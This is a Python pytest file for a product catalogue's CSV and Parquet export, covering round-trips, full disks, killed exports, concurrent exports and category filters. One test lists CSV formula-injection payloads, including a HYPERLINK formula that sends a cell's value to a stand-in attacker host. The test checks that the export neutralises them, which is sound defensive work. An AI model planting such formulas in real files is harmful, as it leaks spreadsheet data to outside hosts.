import csv
import json
import subprocess
import sys
from dataclasses import replace
from io import BytesIO

import numpy as np
import pyarrow as pa
import pytest
from pyarrow import parquet

from catalog.catalogue import Catalogue
from catalog.product import Product
from encoder.variants import Variants
from ingest import IngestError, export
from ingest.export import export_products
from ingest.products import load_products
from ingest.vectors import embed_products
from qdrant.store import open_store
from tests import shop
from tests.ingest.commands import ROOT, run_here
from tests.small_disk import small_disk


@pytest.fixture(scope="module")
def home(tmp_path_factory, tiny_clip):
    rows = shop.rows()
    rows[0]["title"] = 'said "crimson", twice\nover'
    del rows[1]["image"]
    rows[2]["image"] = "/elsewhere/olive.jpg"
    return shop.build(tmp_path_factory.mktemp("home"), tiny_clip, rows)


def test_the_csv_and_the_parquet_file_have_the_same_products(home, tmp_path):
    assert export_products(home, "tiny", tmp_path)["products"] == 12
    with (tmp_path / "products.csv").open(newline="") as file:
        listed = list(csv.DictReader(file))
    table = parquet.read_table(tmp_path / "products.parquet").to_pylist()
    assert [row["id"] for row in listed] == [row["id"] for row in table]
    assert [row["id"] for row in table] == sorted(row["id"] for row in shop.rows())
    crimson = next(row for row in table if row["id"] == "lipstick-crimson")
    assert crimson["title"] == 'said "crimson", twice over'
    assert crimson["text"].startswith(crimson["title"])
    assert crimson["title"] in {row["title"] for row in listed}
    olive = next(row for row in table if row["id"] == "lipstick-olive")
    assert (olive["image"], olive["picture"]) == ("/elsewhere/olive.jpg", None)


def test_a_parquet_file_describes_groups_of_many_windows(tmp_path):
    # What describes a group is held in memory until the file is complete.
    schema = pa.schema([("id", pa.string())])
    windows = [pa.RecordBatch.from_pylist([{"id": f"{i}"}], schema) for i in range(5)]
    with (tmp_path / "x").open("wb") as file, export._ParquetFile(file, schema) as written:
        for window in windows:
            written.write(window)
    read = parquet.ParquetFile(tmp_path / "x")
    assert read.num_row_groups == 1
    assert read.read().equals(pa.Table.from_batches(windows))


def test_exported_vectors_are_those_of_the_collection(home, tmp_path):
    assert export_products(home, "tiny", tmp_path)["vectors"] == 3 * 12 - 2 * 2
    rows = {row["id"]: row for row in parquet.read_table(tmp_path / "vectors.parquet").to_pylist()}
    with open_store(home) as store:
        points = store.retrieve("tiny", list(rows), vectors=True)
    for name in ("image", "text", "fused"):
        np.testing.assert_allclose(
            rows["kettle-teal"][name], points["kettle-teal"].vectors[name], atol=1e-7
        )
    assert rows["lipstick-teal"]["image"] is None
    assert rows["lipstick-teal"]["text"] is not None


def test_a_folder_that_cannot_be_written_is_named(home, tmp_path):
    (tmp_path / "file").touch()
    (tmp_path / "taken" / "products.csv").mkdir(parents=True)
    for name, reason in [
        ("file", "a file is where a folder should be"),
        ("taken", "products.csv: Is a directory"),
    ]:
        ended = run_here(home, "export", "--folder", tmp_path / name)
        assert (ended.status, ended.stdout) == (1, "")
        assert str(tmp_path / name) in ended.error
        assert reason in ended.error


def contents(folder):
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def test_a_full_disk_leaves_the_earlier_export(home, tmp_path):
    with small_disk(tmp_path / "disk", "100k") as disk:
        run_here(home, "export", "--folder", disk)
        before = contents(disk)
        (disk / "ballast").write_bytes(bytes(100_000 - sum(map(len, before.values())) - 20_000))
        ended = run_here(home, "export", "--folder", disk)
        assert (ended.status, ended.stdout) == (1, "")
        assert f"{disk}" in ended.error
        assert "No space left on device; free some space" in ended.error
        (disk / "ballast").unlink()
        assert contents(disk) == before


def test_a_killed_export_leaves_the_earlier_one_and_the_next_removes_its_files(home, tmp_path):
    assert run_here(home, "export", "--folder", tmp_path).status == 0
    before = contents(tmp_path)
    code = (
        "import os, sys\nfrom pathlib import Path\nfrom ingest import export\n"
        "export._lists = lambda *_: os._exit(9)\n"
        "export.export_products(Path(sys.argv[1]), 'tiny', Path(sys.argv[2]))\n"
    )
    words = [sys.executable, "-c", code, str(home), str(tmp_path)]
    assert subprocess.run(words, cwd=ROOT, check=False, capture_output=True).returncode == 9
    (left,) = tmp_path.glob(".export-*")
    assert {name: (tmp_path / name).read_bytes() for name in before} == before
    assert run_here(home, "export", "--folder", tmp_path).status == 0
    assert not left.exists()


def test_a_second_export_to_the_same_folder_is_refused_and_the_first_completes(
    home, tmp_path, monkeypatch
):
    guarded = export._guarded

    def meanwhile(batch):
        ended = run_here(home, "export", "--folder", tmp_path)
        assert (ended.status, ended.stdout) == (1, "")
        assert f"Another export is being written to {tmp_path}. Let it finish" in ended.error
        return guarded(batch)

    monkeypatch.setattr(export, "_guarded", meanwhile)
    assert export_products(home, "tiny", tmp_path)["products"] == 12
    assert contents(tmp_path).keys() == set(export.FILES)


def test_where_the_export_is_stands_on_stderr_and_in_the_figures(home, tmp_path):
    ended = run_here(home, "export", "--folder", tmp_path / "made" / "here", "--json")
    assert json.loads(ended.stdout)["folder"] == str(tmp_path / "made" / "here")
    assert f"Written to {tmp_path}/made/here: products.csv, products.parquet" in ended.stderr


ODD = [
    "=1+1", "'=1", "''@x", "'quoted'", "-", "\ttab", 'said "so", twice', "a\r\nb\nc", "n/a", "007",
    "1e5", "true", "[1]", '{"a": 1}', "<b>bold</b> &amp; co", "  two  spaces ", "½ 10² ™ 日本 👩‍🔧",
    "a > b", "A/B", "x;y|z", "None", "\\N",
]  # fmt: skip


def odd_products(folder):
    """A product with every field, variants of one article, and odd texts in every place."""
    shop.draw("kettle-teal").save(folder / "a.png")
    bag = Product(
        "bag/1",
        "Bag",
        category="Bags & Co",
        description="<b>Soft</b> bag",
        features=("soft", "big\nand\nlight", "a, b"),
        attributes={"Colour": "red", "Weight": 1.25, "Waterproof": True, "Size, cm": "10 > 20"},
        brand="Änder",
        price=12.34,
        rating=4.1,
        rating_count=1234567,
        link="https://shop.example/1?a=1&b=%20",
        parent="bag",
        images=("https://shop.example/a,b;c.jpg", str(folder / "a.png"), "embedded:empty"),
        sku="0042",
        gtin="04006381333931",
        currency="EUR",
        list_price=20.0,
        categories=(("Bags & Co", "Totes, large", "A/B > C"), ("Gifts",)),
        in_stock=True,
        released="2025-02-28",
    )
    variants = [
        replace(bag, id=f"bag/{n}", in_stock=stock, price=price, attributes={}, images=())
        for n, (stock, price) in enumerate([(False, 0.1 + 0.2), (None, None), (True, 1e15)], 2)
    ]
    odd = [
        Product(
            text,
            text,
            description=text,
            features=(text, text),
            attributes={text: text},
            brand=text,
            link=text,
            parent=text,
            images=(text,),
            categories=((text, text),),
            sku=text,
        )
        for text in ODD
    ]
    return [bag, *variants, *odd]


@pytest.mark.parametrize("name", ["products.csv", "products.parquet"])
def test_an_export_is_read_back_to_an_equal_catalogue(tmp_path, tiny_clip, name):
    home, again = tmp_path / "home", tmp_path / "again"
    buffer = BytesIO()
    shop.draw("kettle-coral").save(buffer, "PNG")
    Variants(home).add("tiny", tiny_clip)
    with Catalogue(home) as catalogue:
        products = odd_products(tmp_path)
        address = catalogue.embedded.add(buffer.getvalue())
        products[1] = replace(products[1], images=(address,))
        catalogue.upsert(products)
        products = list(catalogue.products())
    embed_products(home, "tiny")
    exported = json.loads(run_here(home, "export", "--folder", tmp_path / "out", "--json").stdout)
    assert (exported["products"], exported["embedded"]) == (len(products), 1)
    figures = load_products(again, tmp_path / "out" / name)
    assert (figures["kept"], figures["dropped"]) == (len(products), {})
    assert figures["columns"]["convention"] == "an export of Vitrine"
    with Catalogue(again) as catalogue:
        read = list(catalogue.products())
        assert [product.id for product in read] == [product.id for product in products]
        for product, original in zip(read, products, strict=True):
            assert product == original
        assert catalogue.embedded.read(address) == buffer.getvalue()


def test_a_cell_that_was_changed_to_nonsense_costs_its_row(home, tmp_path):
    export_products(home, "tiny", tmp_path)
    file = tmp_path / "products.csv"
    with file.open(newline="") as opened:
        rows = list(csv.DictReader(opened))
    rows[0]["price"], rows[1]["features"], rows[2]["in_stock"] = "cheap", "[1", "perhaps"
    rows[3]["features"] = "[" * 9000
    rows[4]["title"] = ""
    with file.open("w", newline="") as opened:
        writer = csv.DictWriter(opened, rows[0])
        writer.writeheader()
        writer.writerows(rows)
    figures = load_products(tmp_path / "again", file)
    assert figures["kept"] == 7
    assert figures["dropped"] == {"unreadable row": 4, "no title": 1}


def test_a_spreadsheet_finds_no_formula_in_the_csv_and_the_parquet_file_is_unchanged(
    tmp_path, tiny_clip
):
    formulas = ["=1+1", '=HYPERLINK("http://evil.test/?x="&A1,"click")', "@SUM(1)", "+1", "-2+3"]
    rows = [
        {"id": formula, "title": formula, "brand": formula, "category": "a=b", "price": 5}
        for formula in formulas
    ]
    home = shop.build(tmp_path / "home", tiny_clip, rows)
    export_products(home, "tiny", tmp_path / "export")
    with (tmp_path / "export" / "products.csv").open(newline="") as file:
        listed = list(csv.DictReader(file))
    table = parquet.read_table(tmp_path / "export" / "products.parquet").to_pylist()
    assert {row["title"] for row in table} == set(formulas)
    for name in ("id", "title", "brand", "text"):
        assert [row[name] for row in listed] == [f"'{row[name]}" for row in table]
    assert {row["category"] for row in listed} == {"a=b"}
    assert {row["price"] for row in listed} == {"5"}


def test_one_category_is_exported_and_an_unknown_one_is_an_error(home, tmp_path):
    assert export_products(home, "tiny", tmp_path, category="Beauty")["products"] == 6
    with pytest.raises(IngestError, match="“Toys”; there are Appliances, Beauty"):
        export_products(home, "tiny", tmp_path, category="Toys")


def test_a_deeper_step_of_category_paths_is_exported_as_search_finds_it(tmp_path, tiny_clip):
    rows = [
        {"id": "1", "title": "Kettle", "category": "Kitchen > Kettles"},
        {"id": "2", "title": "Pan", "category": "Kitchen > Pans"},
        {"id": "3", "title": "Kettle lamp", "category": "Lamps > Kettles"},
    ]
    home = tmp_path / "home"
    Variants(home).add("tiny", tiny_clip)
    load_products(home, shop.write_source(tmp_path / "source", rows))
    embed_products(home, "tiny")
    for category, products in {"Kettles": 2, "Kitchen > Kettles": 1, "Kitchen": 2}.items():
        figures = export_products(home, "tiny", tmp_path / "out", category=category)
        assert figures["products"] == products
